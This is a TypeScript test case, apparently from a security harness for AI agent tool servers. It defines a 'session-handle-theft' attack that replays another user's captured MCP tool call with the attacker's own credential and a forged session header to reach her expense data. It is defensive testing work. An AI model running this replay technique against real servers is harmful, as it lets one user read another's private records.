import { type Attack, notApplicable } from '../attacker/attack.ts'
import { toolCall } from '../attacker/capture.ts'
import { usersOf } from '../attacker/effect.ts'
import { frontCredentialOf, withFrontCredential } from '../attacker/front-hop.ts'
import { holes } from '../attacker/holes.ts'
import { judge } from '../attacker/judge.ts'
import { knowsUsers } from '../attacker/victims.ts'

export const sessionHandleTheft: Attack = {
  id: 'session-handle-theft',
  story:
    "Dave saw alice's tool call without its credential, and wants her rows by its ids, metadata and handles and a credential of his own.",
  owasp: ['ASI03', 'ASI07', 'MCP07'],
  cwe: ['CWE-639'],
  aisvs: ['10.2.1', '10.2.6'],
  judgedBy: 'a service record that names anybody but dave for what he sent',
  async run(attacker) {
    const captured = await attacker.capture('alice', 'What are my expenses?')
    const alices = toolCall(captured.exchanges)
    const daves = toolCall((await attacker.capture('dave', 'What are my expenses?')).exchanges)
    const credential = frontCredentialOf(daves)
    if (!credential) return notApplicable('the MCP server tells nobody from anybody, so there is no session')
    if (!knowsUsers(captured.run)) return notApplicable('no credential stands for a user here')
    const { headers, body } = withFrontCredential(alices, credential)
    const effect = await attacker.effectOf(async () => {
      await attacker.replay(alices, { headers, body, sameTrace: true })
      // A server that kept sessions would hand one out by this header (MCP 2025-11-25, transports).
      await attacker.replay(alices, {
        headers: { ...headers, 'mcp-session-id': alices.trace },
        body,
        sameTrace: true,
      })
    })
    const served = usersOf(effect)
    const other = served.find((user) => user !== 'dave')
    const how = `${holes['session-of-another']}: dave's call as ${other}'s`
    const otherwise =
      served.length > 0 ? 'the server keeps no session: who calls is what the credential says' : undefined
    return judge(effect, { succeeded: other !== undefined, how, otherwise })
  },
}
